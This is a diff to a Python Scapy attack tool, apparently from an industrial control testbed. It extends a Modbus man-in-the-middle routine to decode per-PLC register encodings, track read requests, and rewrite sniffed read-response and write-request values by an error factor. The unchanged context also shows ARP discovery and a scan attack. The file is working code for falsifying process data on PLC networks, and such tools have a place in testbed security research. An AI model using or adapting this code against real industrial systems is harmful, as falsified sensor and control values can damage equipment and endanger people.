@@ -1,4 +1,7 @@
 import argparse
+import os
+import struct
+import sys
 
 #from matplotlib.backends.backend_pdf import Reference
 from scapy.layers.inet import IP
@@ -6,7 +9,7 @@ from scapy.layers.l2 import ARP, Ether
 from ModbusPackets import *
 from NetworkNode import NetworkNode
 from ModbusCommand import ModbusCommand
-from protocol import ModbusBase
+from protocol import ModbusBase, ProtocolFactory
 
 
 class ScapyAttacker:
@@ -17,6 +20,10 @@ class ScapyAttacker:
     sniff_time = None
     error = 0
     modbus_base = ModbusBase()
+    # codec of each known PLC by (ip, port), modbus_base is the one of the others
+    plc_bases = {}
+    # tag id of the pending read requests by (client ip, client port, transaction id)
+    read_requests = {}
 
     @staticmethod
     def discovery(dst):
@@ -29,6 +36,52 @@ class ScapyAttacker:
             nodes.append(NetworkNode(received[ARP].psrc, received[ARP].hwsrc))
         return nodes
 
+    @staticmethod
+    def set_encoding(encoding, word_order):
+        """Register encoding of the sniffed PLCs, as 'encoding' and 'word_order' of their PLC_CONFIG entry."""
+        ScapyAttacker.modbus_base = ModbusBase(encoding=encoding, word_order=word_order)
+        ModbusCommand.codec_options = {'encoding': encoding, 'word_order': word_order, 'tag_encodings': {}}
+
+    @staticmethod
+    def set_plc_encodings(plcs, tags):
+        """Register encodings of the PLC_CONFIG entries plcs, with the per tag ones of the TAG_LIST tags."""
+        ScapyAttacker.plc_bases = {}
+        ModbusCommand.plc_codec_options = {}
+        ModbusCommand.clients = {}
+        for plc_id, plc in plcs.items():
+            options = ProtocolFactory.codec_options(plc, [tag for tag in tags.values() if tag['plc'] == plc_id])
+            ScapyAttacker.plc_bases[(plc['ip'], plc['port'])] = ModbusBase(**options)
+            ModbusCommand.plc_codec_options[(plc['ip'], plc['port'])] = options
+
+    @staticmethod
+    def plc_base(pkt):
+        """Codec of the PLC end of a Modbus packet, requests go to the PLC and responses come from it."""
+        base = ScapyAttacker.plc_bases.get((pkt['IP'].dst, pkt['TCP'].dport))
+        if base is None:
+            base = ScapyAttacker.plc_bases.get((pkt['IP'].src, pkt['TCP'].sport), ScapyAttacker.modbus_base)
+        return base
+
+    @staticmethod
+    def write_request_length(base):
+        # unit id, function code, reference, register count, byte count and the registers of one tag
+        return 7 + 2 * base._word_num
+
+    @staticmethod
+    def read_response_length(base):
+        # unit id, function code, byte count and the registers of one tag
+        return 3 + 2 * base._word_num
+
+    @staticmethod
+    def decode_payload(base, payload, tag_id=None):
+        """Value held by the register data that ends a read response or write request payload."""
+        data = payload[-2 * base._word_num:]
+        return base.decode_tag(tag_id, list(struct.unpack('>%dH' % base._word_num, data)))
+
+    @staticmethod
+    def encode_payload(base, value, tag_id=None):
+        words = base.encode_tag(tag_id, value)
+        return struct.pack('>%dH' % len(words), *words)
+
     @staticmethod
     def get_mac_address(ip_address):
         pkt = Ether(dst=ScapyAttacker.BROADCAST_ADDRESS) / ARP(pdst=ip_address)
@@ -97,23 +150,25 @@ class ScapyAttacker:
         if not pkt.haslayer('TCP') or len(pkt['TCP'].payload) <= 0:     # sniffing TCP payload is not possible
             return
 
+        base = ScapyAttacker.plc_base(pkt)
         tcp_packet = ModbusTCP(pkt['TCP'].payload.load)
-        if tcp_packet.Length == 6 or tcp_packet.Length == 11:
+        if tcp_packet.Length == 6 or tcp_packet.Length == ScapyAttacker.write_request_length(base):
             if tcp_packet.Length == 6:
                 modbus_packet = ModbusReadRequestOrWriteResponse(tcp_packet.payload.load)
                 value = 0
                 if modbus_packet.Command == ModbusCommand.command_write_multiple_registers:
                     return
-            else:  # tcp_packet.Length == 11:
+            else:  # tcp_packet.Length == ScapyAttacker.write_request_length(base):
                 modbus_packet = ModbusWriteRequest(tcp_packet.payload.load)
-                value = ScapyAttacker.modbus_base.decode([modbus_packet.Data0, modbus_packet.Data1])
+                value = ScapyAttacker.decode_payload(base, tcp_packet.payload.load,
+                                                    int(modbus_packet.Reference) // base._word_num)
 
             command = ModbusCommand(
                 pkt['IP'].src,
                 pkt['IP'].dst,
                 pkt['TCP'].dport,
                 modbus_packet.Command,
-                int(modbus_packet.Reference) /2,    # 2 in the work_num
+                int(modbus_packet.Reference) / base._word_num,
                 value,
                 value,
 
@@ -137,26 +192,34 @@ class ScapyAttacker:
 
 
         if new_packet.haslayer('TCP') and len(new_packet['TCP'].payload) > 0:
+            base = ScapyAttacker.plc_base(pkt)
             tcp_packet = ModbusTCP(pkt['TCP'].payload.load)
-            if tcp_packet.Length == 7 or tcp_packet.Length == 11:
-                if tcp_packet.Length == 7:
+            if tcp_packet.Length == 6:
+                modbus_packet = ModbusReadRequestOrWriteResponse(tcp_packet.payload.load)
+                if modbus_packet.Command == ModbusCommand.command_read_holding_registers:
+                    ScapyAttacker.read_requests[(pkt['IP'].src, pkt['TCP'].sport, tcp_packet.TransID)] = \
+                        int(modbus_packet.Reference) // base._word_num
+
+            elif tcp_packet.Length in (ScapyAttacker.read_response_length(base),
+                                       ScapyAttacker.write_request_length(base)):
+                if tcp_packet.Length == ScapyAttacker.read_response_length(base):
                     modbus_packet = ModbusReadResponse(tcp_packet.payload.load)
-                else:  # tcp_packet.Length == 11:
+                    tag_id = ScapyAttacker.read_requests.pop(
+                        (pkt['IP'].dst, pkt['TCP'].dport, tcp_packet.TransID), None)
+                else:  # tcp_packet.Length == ScapyAttacker.write_request_length(base):
                     modbus_packet = ModbusWriteRequest(tcp_packet.payload.load)
+                    tag_id = int(modbus_packet.Reference) // base._word_num
 
-                value = ScapyAttacker.modbus_base.decode([modbus_packet.Data0, modbus_packet.Data1])
+                value = ScapyAttacker.decode_payload(base, tcp_packet.payload.load, tag_id)
 
                 new_value = value + (value * ScapyAttacker.error)
-                values = ScapyAttacker.modbus_base.encode(new_value)
+                values = ScapyAttacker.encode_payload(base, new_value, tag_id)
 
-                offset = len(new_packet['TCP'].payload.load) - 4
-                new_packet['TCP'].payload.load = (
-                        new_packet['TCP'].payload.load[:offset] +
-                        values[0].to_bytes(2, 'big') +
-                        values[1].to_bytes(2, 'big'))
+                offset = len(new_packet['TCP'].payload.load) - len(values)
+                new_packet['TCP'].payload.load = new_packet['TCP'].payload.load[:offset] + values
 
                 reference = 0
-                if tcp_packet.Length == 11:
+                if tcp_packet.Length == ScapyAttacker.write_request_length(base):
                     reference = modbus_packet.Reference
 
                 command = ModbusCommand(
@@ -289,6 +352,10 @@ if __name__ == '__main__':
                         help='determine attack target', required=False)
     parser.add_argument('--parameter', metavar='determine attack parameter', type=float, default=5,
                         help='determine attack parameter', required=False)
+    parser.add_argument('--encoding', choices=list(ModbusBase.ENCODINGS), default='scaled',
+                        help='register encoding of the PLCs missing from Configs', required=False)
+    parser.add_argument('--word_order', choices=list(ModbusBase.WORD_ORDERS), default='big',
+                        help='register word order of the PLCs missing from Configs', required=False)
 
     parser.parse_args()
     args = parser.parse_args()
@@ -298,6 +365,12 @@ if __name__ == '__main__':
     logger = logging.getLogger(args.attack)
     logger.setLevel(logging.INFO)
     logger.addHandler(handler)
+    ScapyAttacker.set_encoding(args.encoding, args.word_order)
+
+    # the PLCs of Configs, run from src as the other attack tools
+    sys.path.append(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+    from Configs import Controllers, TAG
+    ScapyAttacker.set_plc_encodings(Controllers.PLCs, TAG.TAG_LIST)
 
     if args.attack == 'scan':
         ScapyAttacker.scan_attack(args.target, logger)